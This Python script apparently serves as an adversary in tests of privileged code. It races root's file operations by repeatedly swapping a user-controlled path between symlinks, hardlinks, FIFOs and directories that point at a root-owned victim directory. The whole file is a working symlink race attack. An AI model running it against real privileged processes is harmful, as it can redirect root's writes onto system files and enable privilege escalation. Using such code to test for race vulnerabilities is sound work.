"""Puts one thing after the other in the places where root reads and writes, as fast as it can.

`python -I swap.py PLACE VICTIM`: `PLACE` is the user's own directory, in which `spot` is where root
goes; `VICTIM` is a directory of root's, with files of the names that root uses. It says `swaps`
once it has begun, and goes on until it is ended.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

Deed = Callable[[], object]


def main() -> None:
    place, victim = Path(sys.argv[1]), Path(sys.argv[2])
    spot, other = place / "spot", place / "other"
    names = sorted(one.name for one in victim.iterdir() if one.is_file())
    entries: list[Deed] = []
    for name in names:
        one = spot / name
        for deed in (
            lambda one=one, name=name: one.symlink_to(victim / name),
            lambda one=one, name=name: one.hardlink_to(victim / name),
            lambda one=one: os.mkfifo(one),
            lambda one=one: one.mkdir(),
            lambda one=one: one.symlink_to(one.name),
        ):
            entries.append(lambda one=one, deed=deed: (cleared(one), deed()))
    directories: list[Deed] = [
        lambda: spot.symlink_to(victim),
        lambda: other.rename(spot),
        lambda: os.mkfifo(spot),
        lambda: spot.symlink_to(victim / names[0]),
        lambda: spot.symlink_to("spot"),
        lambda: (spot.mkdir(), (spot / "out").symlink_to(victim)),
    ]
    for number in itertools.count():
        with contextlib.suppress(OSError):
            cleared(spot)
        with contextlib.suppress(OSError):
            # What root made in there is root's; the directory can be moved.
            spot.rename(place / f"old-{number}")
        with contextlib.suppress(OSError):
            directories[number % len(directories)]()
        for deed in entries[number % 7 :: 7]:
            with contextlib.suppress(OSError):
                deed()
        with contextlib.suppress(OSError):
            # What root made is kept for the next time.
            other.mkdir()
        if number == len(directories):
            sys.stdout.write("swaps\n")
            sys.stdout.flush()


def cleared(path: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path, ignore_errors=True)
    else:
        path.unlink(missing_ok=True)


main()
